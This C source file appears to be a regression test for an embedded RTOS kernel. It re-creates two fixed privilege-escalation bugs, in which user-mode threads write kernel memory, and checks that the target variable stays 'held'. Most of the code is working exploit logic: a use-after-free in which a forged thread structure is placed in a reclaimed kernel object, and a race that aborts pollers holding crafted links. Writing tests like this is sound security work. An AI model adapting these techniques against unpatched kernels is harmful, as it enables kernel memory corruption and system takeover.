/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Ways to write the kernel's memory from user mode that there were until 19e0f6c: a mutex and an endpoint whose owner has
 * ended, and whose block user mode fills since as a message queue's buffer; and events that are polled with links in
 * them, whose poller ends before it came to look. On a kernel that is right nothing happens. tests/sim/test_taint.py makes
 * the first two again in a copy of the kernel, and the instruction-set simulator has to stop there.
 */
#include <foliot/kernel.h>
#include "drivers/board_exit.h"

#define ROUNDS 400

static volatile uintptr_t target = 42; /* in no partition */

K_APPMEM_PARTITION_DEFINE(own);
K_APP_DMEM(own) static union {
	struct k_thread thread;
	char bytes[sizeof(struct k_thread)];
} forged = {.bytes = {1}};
/* What user mode would have to guess: the generation of who locked that mutex. */
K_APP_DMEM(own) static volatile struct {
	struct k_mutex *of;
	uint32_t generation;
} guess = {.generation = 1};
K_APP_DMEM(own) static struct k_poll_event events[CONFIG_POLL_USER_EVENTS] = {{.type = 1}};

K_HEAP_DEFINE(pool, 16384);
K_IPC_ENDPOINT_DEFINE(endpoint);
K_IPC_GATE_DEFINE(gate, &endpoint, 7);
static K_SEM_DEFINE(token, 0, 1);
static struct k_mem_domain domain;
static struct k_thread attacker, victim, giver;
K_THREAD_STACK_DEFINE(attacker_stack, 2048);
K_THREAD_STACK_DEFINE(victim_stack, 1024);
K_THREAD_STACK_DEFINE(giver_stack, 1024);

static void own_and_end(void *mutex, void *unused1, void *unused2)
{
	struct k_ipc_message message = {0};

	(void)k_mutex_lock(mutex, K_NO_WAIT);
	(void)k_ipc_receive(&endpoint, &message, K_NO_WAIT);
}

/* A call keeps what it named: another two names let go of the thread. */
static void let_go_of_names(void)
{
	for (int i = 0; i < 2; i++) {
		struct k_sem *sem = k_object_alloc(K_OBJ_SEM);

		(void)k_sem_init(sem, 1, 1);
		(void)k_sem_take(sem, K_NO_WAIT);
	}
}

/* What would be a thread that waits in a queue of its own, and whose neighbours are words of the kernel's. */
static void forge(struct k_thread *block)
{
	forged.thread.generation = guess.generation;
	forged.thread.state = K_THREAD_PENDING;
	forged.thread.prio = forged.thread.threshold = forged.thread.base_prio = 10;
	forged.thread.pended_on = (_wait_q_t *)&block->user.grants[0];
	forged.thread.next = (struct k_thread *)(uintptr_t)&target;
	forged.thread.prev = (struct k_thread *)(uintptr_t)&target;
}

static void use_what_has_ended(void *unused1, void *unused2, void *unused3)
{
	struct k_ipc_message message = {0};
	struct k_mutex *mutex = k_object_alloc(K_OBJ_MUTEX);
	struct k_msgq *msgq = k_object_alloc(K_OBJ_MSGQ);
	struct k_thread *block = k_object_alloc(K_OBJ_THREAD);

	(void)k_mutex_init(mutex);
	(void)k_thread_create(block, victim_stack, K_THREAD_STACK_SIZEOF(victim_stack), own_and_end,
			      mutex, NULL, NULL, 6, K_USER | K_INHERIT_PERMS, K_NO_WAIT);
	(void)k_thread_join(block, K_FOREVER);
	let_go_of_names();
	k_object_release(block);
	guess.of = mutex;
	k_msleep(2);
	(void)k_msgq_alloc_init(msgq, sizeof(struct k_thread), 1);
	forge(block);
	(void)k_msgq_put(msgq, &forged, K_NO_WAIT);
	if (!IS_ENABLED(CONFIG_TAKEOVER_BY_CALLING)) {
		(void)k_mutex_lock(mutex, K_MSEC(1));
	}
	(void)k_ipc_call(&gate, &message, K_MSEC(1));
}

static void poll_with_links(void *unused1, void *unused2, void *unused3)
{
	for (;;) {
		for (int i = 0; i < CONFIG_POLL_USER_EVENTS; i++) {
			events[i] = (struct k_poll_event){
				.type = i + 1 < CONFIG_POLL_USER_EVENTS ? K_POLL_TYPE_IGNORE
									: K_POLL_TYPE_SEM_AVAILABLE,
				.mode = K_POLL_MODE_NOTIFY_ONLY,
				.sem = &token,
				.pollers = (struct k_poll_event **)(uintptr_t)&target,
			};
		}
		(void)k_poll(events, CONFIG_POLL_USER_EVENTS, K_FOREVER);
		(void)k_sem_take(&token, K_NO_WAIT);
	}
}

static void give(void *unused1, void *unused2, void *unused3)
{
	for (;;) {
		k_sem_give(&token);
	}
}

static void end_who_polls(void *unused1, void *unused2, void *unused3)
{
	for (int i = 0; i < ROUNDS; i++) {
		(void)k_thread_create(&victim, victim_stack, K_THREAD_STACK_SIZEOF(victim_stack),
				      poll_with_links, NULL, NULL, NULL, 10,
				      K_USER | K_INHERIT_PERMS, K_NO_WAIT);
		k_sleep(K_TICKS(1 + i % 3));
		k_thread_abort(&victim);
		/* Or each would come at one of three places of the victim's loop. */
		for (volatile int later = i; later > 0; later--) {
		}
	}
}

int main(void)
{
	struct k_mem_partition *parts[] = {&own};
	k_thread_entry_t attack = IS_ENABLED(CONFIG_TAKEOVER_BY_POLLING) ? end_who_polls
									 : use_what_has_ended;

	(void)k_mem_domain_init(&domain, 1, parts);
	(void)k_thread_create(&attacker, attacker_stack, K_THREAD_STACK_SIZEOF(attacker_stack),
			      attack, NULL, NULL, NULL, 5, K_USER, K_FOREVER);
	(void)k_thread_create(&giver, giver_stack, K_THREAD_STACK_SIZEOF(giver_stack), give, NULL,
			      NULL, NULL, 11, K_USER, K_FOREVER);
	(void)k_mem_domain_add_thread(&domain, &attacker);
	(void)k_mem_domain_add_thread(&domain, &giver);
	k_thread_heap_assign(&attacker, &pool);
	k_object_access_grant(&token, &attacker);
	k_object_access_grant(&token, &giver);
	k_object_access_grant(&victim, &attacker);
	k_object_access_grant(&endpoint, &attacker);
	k_object_access_grant(&gate, &attacker);
	k_thread_access_grant(&attacker, victim_stack);
	k_thread_priority_set(k_current_get(), 1);
	k_thread_start(&attacker);
	if (IS_ENABLED(CONFIG_TAKEOVER_BY_POLLING)) {
		k_thread_start(&giver);
	}
	for (int i = 0; i < 100; i++) {
		k_msleep(1);
		guess.generation = guess.of != NULL ? guess.of->generation : 1;
	}
	printk("%s\n", target == 42 ? "held" : "written");
	board_exit(target == 42 ? 0 : 1);
}
